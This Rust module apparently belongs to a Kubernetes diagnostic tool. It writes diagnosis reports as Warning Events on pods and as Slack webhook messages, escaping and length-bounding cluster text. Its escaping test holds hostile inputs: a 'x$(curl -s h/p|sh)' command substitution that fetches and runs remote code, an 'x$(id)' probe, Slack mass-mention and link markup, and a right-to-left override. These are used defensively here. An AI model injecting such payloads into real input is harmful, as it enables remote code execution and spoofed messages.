//! Where `serve`'s reports go besides the store: a `KubeDoctorDiagnosis` Warning Event on each
//! failing client pod the top verdict names (serve's only write to the cluster), and an
//! optional Slack-compatible chat message. Both quote the report, whose summary and remediation
//! carry cluster text (names, log excerpts): they are escaped to one line
//! ([`kube_doctor_core::escape::one_line`]), bounded in length, and the chat text has Slack's
//! control characters (`&`, `<`, `>`) escaped, so no mention, link or markup comes from the cluster.

use std::time::Duration;

use jiff::Timestamp;
use k8s_openapi::api::core::v1::{Event, EventSource, ObjectReference};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{MicroTime, ObjectMeta, Time};
use kube::Api;
use kube::api::PostParams;
use kube_doctor_core::escape::one_line;
use kube_doctor_core::report::{Report, Verdict};

use crate::source::kube::{Kube, Perm, StepCtx};

/// Where reports go besides the store.
pub struct Sinks {
    /// Creates Events on client pods, when enabled.
    pub kube: Option<Kube>,
    /// Posts chat messages, when configured.
    pub notifier: Option<Notifier>,
}

/// The object an Event about a failing client is about, as (kind, namespace, name): a workload
/// pod; a control-plane component's mirror pod; for the API server as the client (its calls to
/// webhooks and aggregated APIs fail), the `default/kubernetes` Service, the API server's own
/// object that `kubectl describe` shows in every cluster, managed or not. `None`: nothing to
/// put it on (a kubelet, a component run as a host process, an audit-log user).
pub fn event_object(
    t: &kube_doctor_core::bundle::Target,
) -> Option<(&'static str, String, String)> {
    use kube_doctor_core::bundle::Target;
    match t {
        Target::Pod {
            namespace, name, ..
        } => Some(("Pod", namespace.clone(), name.clone())),
        Target::Component { pod: Some(p), .. } => Some((
            "Pod",
            p.namespace.clone().unwrap_or_else(|| "kube-system".into()),
            p.name.clone(),
        )),
        Target::ApiServer { .. } => Some(("Service", "default".into(), "kubernetes".into())),
        _ => None,
    }
}

/// A Kubernetes Event on what each failing client the top verdict names runs as (see
/// [`event_object`]), with the verdict.
pub async fn announce(kube: &Kube, r: &Report) -> Result<(), String> {
    let Some(top) = r.top().filter(|_| r.problem_found()) else {
        return Ok(());
    };
    for c in &r.clients {
        if !top.clients.contains(&c.id) {
            continue;
        }
        let Some((kind, namespace, name)) = event_object(&c.target) else {
            continue;
        };
        let now = Timestamp::now();
        let message = event_message(top);
        let event = Event {
            metadata: ObjectMeta {
                generate_name: Some(format!("{name}.kube-doctor.")),
                namespace: Some(namespace.clone()),
                ..Default::default()
            },
            involved_object: ObjectReference {
                kind: Some(kind.into()),
                namespace: Some(namespace.clone()),
                name: Some(name.clone()),
                api_version: Some("v1".into()),
                ..Default::default()
            },
            reason: Some("KubeDoctorDiagnosis".into()),
            message: Some(message),
            type_: Some("Warning".into()),
            count: Some(1),
            first_timestamp: Some(Time(now)),
            last_timestamp: Some(Time(now)),
            event_time: Some(MicroTime(now)),
            action: Some("Diagnosed".into()),
            reporting_component: Some("kube-doctor".into()),
            reporting_instance: Some("kube-doctor".into()),
            source: Some(EventSource {
                component: Some("kube-doctor".into()),
                host: None,
            }),
            ..Default::default()
        };
        let ctx = StepCtx::new(0, Duration::from_secs(10));
        kube.call(
            &ctx,
            Perm::ns("", "events", "create", &namespace),
            |client| {
                let (ev, ns) = (event.clone(), namespace.clone());
                async move {
                    Api::<Event>::namespaced(client, &ns)
                        .create(&PostParams::default(), &ev)
                        .await
                }
            },
        )
        .await
        .map_err(|e| e.to_string())?;
    }
    Ok(())
}

/// Longest Event message, in bytes (the API server keeps Event messages short; 1 KiB is what
/// `events.k8s.io/v1` allows for its `note`).
pub const EVENT_MESSAGE_MAX_BYTES: usize = 1024;

/// Longest chat message, in bytes.
pub const CHAT_TEXT_MAX_BYTES: usize = 3000;

/// The Event's message: cause, confidence and summary on one line, escaped, at most
/// [`EVENT_MESSAGE_MAX_BYTES`].
pub fn event_message(top: &Verdict) -> String {
    let line = format!(
        "{} ({:.0}%): {}",
        top.cause,
        top.confidence * 100.0,
        one_line(&top.summary, 900)
    );
    cut_bytes(line, EVENT_MESSAGE_MAX_BYTES)
}

/// The chat message: cause, confidence, summary and the first remediation step's first line,
/// each escaped to one line and for Slack's mrkdwn, at most [`CHAT_TEXT_MAX_BYTES`].
pub fn chat_text(top: &Verdict) -> String {
    let first_step = top
        .remediation
        .first()
        .map(|s| s.lines().next().unwrap_or_default())
        .unwrap_or_default();
    let text = format!(
        "*KubeClientErrors* — {} ({:.0}%): {}\nDo: {}",
        top.cause,
        top.confidence * 100.0,
        slack_escape(&one_line(&top.summary, 1500)),
        slack_escape(&one_line(first_step, 500)),
    );
    cut_bytes(text, CHAT_TEXT_MAX_BYTES)
}

/// Slack's three control characters, as its message formatting asks.
fn slack_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// `s` cut to at most `max` bytes at a character boundary, with `…` when cut.
fn cut_bytes(mut s: String, max: usize) -> String {
    if s.len() <= max {
        return s;
    }
    let mut end = max - '…'.len_utf8();
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.truncate(end);
    s.push('…');
    s
}

/// Posts a Slack-compatible message (`{"text": ...}`) for each report with a problem.
pub struct Notifier {
    http: reqwest::Client,
    url: String,
}

impl Notifier {
    /// A notifier posting to `url` (a secret: never printed or logged).
    pub fn new(url: String) -> anyhow::Result<Notifier> {
        let parsed = url::Url::parse(&url)
            .map_err(|e| anyhow::anyhow!("--notify-webhook is not a URL ({e}); give it like https://hooks.slack.com/services/..."))?;
        if !matches!(parsed.scheme(), "http" | "https") {
            anyhow::bail!("--notify-webhook is not an http(s) URL");
        }
        Ok(Notifier {
            http: reqwest::Client::builder()
                .timeout(Duration::from_secs(5))
                .build()
                .map_err(|e| anyhow::anyhow!("cannot build an HTTP client: {e}"))?,
            url,
        })
    }

    /// Posts the report's top verdict, if it names a problem. Failures are logged without
    /// the URL.
    pub async fn post(&self, r: &Report) {
        let Some(top) = r.top().filter(|_| r.problem_found()) else {
            return;
        };
        let text = chat_text(top);
        if let Err(e) = self
            .http
            .post(&self.url)
            .json(&serde_json::json!({"text": text}))
            .send()
            .await
        {
            tracing::warn!(error = %kube_doctor_core::escape::error_chain(&e.without_url(), 1000), "could not post the notification");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use kube_doctor_core::report::Cause;

    fn verdict(summary: &str, step: &str) -> Verdict {
        Verdict {
            cause: Cause::Authorization,
            confidence: 0.93,
            summary: summary.to_string(),
            evidence: Vec::new(),
            remediation: vec![step.to_string()],
            clients: vec!["c".into()],
        }
    }

    #[test]
    fn cluster_text_reaches_the_event_and_the_chat_escaped_and_bounded() {
        let hostile =
            "user x$(curl -s h/p|sh)\n\u{1b}[2J<!channel> <https://evil|click> & \u{202e}gnp.exe";
        let v = verdict(
            &hostile.repeat(200),
            "kubectl auth can-i --as x$(id) <@U123>\u{1b}[31m\u{85}\nsecond line",
        );
        let ev = event_message(&v);
        assert!(ev.len() <= EVENT_MESSAGE_MAX_BYTES, "{}", ev.len());
        assert!(ev.starts_with("authorization (93%): user x$(curl"), "{ev}");
        assert!(!ev.chars().any(|c| c.is_control()), "{ev}");
        assert!(
            ev.contains("\\n\\u{1b}[2J") && ev.contains("\\u{202e}"),
            "{ev}"
        );
        assert!(ev.ends_with('…'));

        let chat = chat_text(&v);
        assert!(chat.len() <= CHAT_TEXT_MAX_BYTES, "{}", chat.len());
        // One line break, the message's own, before "Do:".
        assert_eq!(chat.matches('\n').count(), 1, "{chat}");
        let (_, todo) = chat.split_once('\n').unwrap();
        // The first line of the first step only, escaped.
        assert_eq!(
            todo,
            "Do: kubectl auth can-i --as x$(id) &lt;@U123&gt;\\u{1b}[31m\\u{85}"
        );
        assert!(
            !chat.contains("<!channel>") && !chat.contains("<https://"),
            "{chat}"
        );
        assert!(
            chat.contains("&lt;!channel&gt;") && chat.contains(" &amp; "),
            "{chat}"
        );
        assert!(
            !chat.contains('\u{1b}') && !chat.contains('\u{202e}'),
            "{chat}"
        );
    }

    #[test]
    fn short_text_is_kept_whole_and_cuts_fall_on_character_boundaries() {
        let v = verdict(
            "RBAC denies list pods to system:serviceaccount:demo:app",
            "Grant it.",
        );
        assert_eq!(
            event_message(&v),
            "authorization (93%): RBAC denies list pods to system:serviceaccount:demo:app"
        );
        assert_eq!(
            chat_text(&v),
            "*KubeClientErrors* — authorization (93%): RBAC denies list pods to system:serviceaccount:demo:app\nDo: Grant it."
        );
        let cut = cut_bytes("é".repeat(1000), 101);
        assert!(cut.len() <= 101 && cut.ends_with('…'), "{}", cut.len());
    }

    /// The API server as the failing client gets its Event on the `kubernetes` Service; a
    /// control-plane component on its mirror pod; a kubelet on nothing.
    #[test]
    fn events_go_on_what_the_client_runs_as() {
        use kube_doctor_core::bundle::{ObjectRef, Target};
        assert_eq!(
            event_object(&Target::ApiServer {
                instance: "10.0.0.1:6443".into()
            }),
            Some(("Service", "default".into(), "kubernetes".into()))
        );
        assert_eq!(
            event_object(&Target::Component {
                name: "kube-controller-manager".into(),
                pod: Some(ObjectRef::namespaced(
                    "Pod",
                    "kube-system",
                    "kube-controller-manager-cp1"
                )),
            }),
            Some((
                "Pod",
                "kube-system".into(),
                "kube-controller-manager-cp1".into()
            ))
        );
        assert_eq!(event_object(&Target::Node { name: "n1".into() }), None);
    }
}
